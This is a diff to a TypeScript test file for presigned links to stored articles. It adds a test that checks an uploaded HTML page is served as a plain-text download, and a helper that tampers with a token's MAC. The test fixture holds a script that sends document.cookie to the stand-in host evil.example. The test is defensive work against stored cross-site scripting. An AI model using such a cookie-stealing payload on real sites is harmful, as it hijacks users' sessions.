@@ -63,6 +63,9 @@ async function linkFromDigest(title: string, key: string): Promise<URL> {
   return link;
 }
 
+/** Changes one character of the MAC (not the last, whose unused bits a spelling check alone would catch). */
+const tamper = (token: string) => `${token.slice(0, -2)}${token.at(-2) === 'A' ? 'B' : 'A'}${token.at(-1)}`;
+
 describe('links to stored originals', () => {
   it('go through the article-link function, which redirects to the article presigned at click time', async () => {
     const key = 'articles/field notes+1.md';
@@ -81,13 +84,40 @@ describe('links to stored originals', () => {
     expect(await article.text()).toBe(bytes);
   });
 
+  it('serve an uploaded HTML page as a plain-text download, so its scripts never run on the bucket origin', async () => {
+    const key = 'articles/hostile page.html';
+    const bytes =
+      '<!DOCTYPE html><html><body><script>fetch("https://evil.example/" + document.cookie)</script><p>Hi</p></body></html>';
+    await stack().s3.send(
+      new PutObjectCommand({
+        Bucket: TEST_BUCKET,
+        Key: key,
+        Body: bytes,
+        ContentType: 'text/html; charset=utf-8',
+      }),
+    );
+    const link = await linkFromDigest('Hostile page', key);
+
+    const redirect = await fetch(link, { redirect: 'manual' });
+    const article = await fetch(redirect.headers.get('location') ?? '');
+
+    // s3rver applies the signed response-* overrides as S3 does.
+    expect(article.status).toBe(200);
+    expect(article.headers.get('content-type')).toBe('text/plain; charset=utf-8');
+    expect(article.headers.get('content-disposition')).toBe(
+      `attachment; filename="hostile page.html"; filename*=UTF-8''hostile%20page.html`,
+    );
+    expect(await article.text()).toBe(bytes);
+    expect(redirect.headers.get('x-content-type-options')).toBe('nosniff');
+  });
+
   it('answer 404 once the original is deleted, and 403 when the token is altered', async () => {
     const key = 'articles/short-lived.txt';
     await stack().s3.send(new PutObjectCommand({ Bucket: TEST_BUCKET, Key: key, Body: 'soon gone' }));
     const link = await linkFromDigest('Short lived', key);
     await stack().s3.send(new DeleteObjectCommand({ Bucket: TEST_BUCKET, Key: key }));
     const altered = new URL(link);
-    altered.searchParams.set('token', `${link.searchParams.get('token')?.slice(0, -2)}AA`);
+    altered.searchParams.set('token', tamper(link.searchParams.get('token') ?? ''));
 
     const gone = await fetch(link, { redirect: 'manual' });
     const forged = await fetch(altered, { redirect: 'manual' });
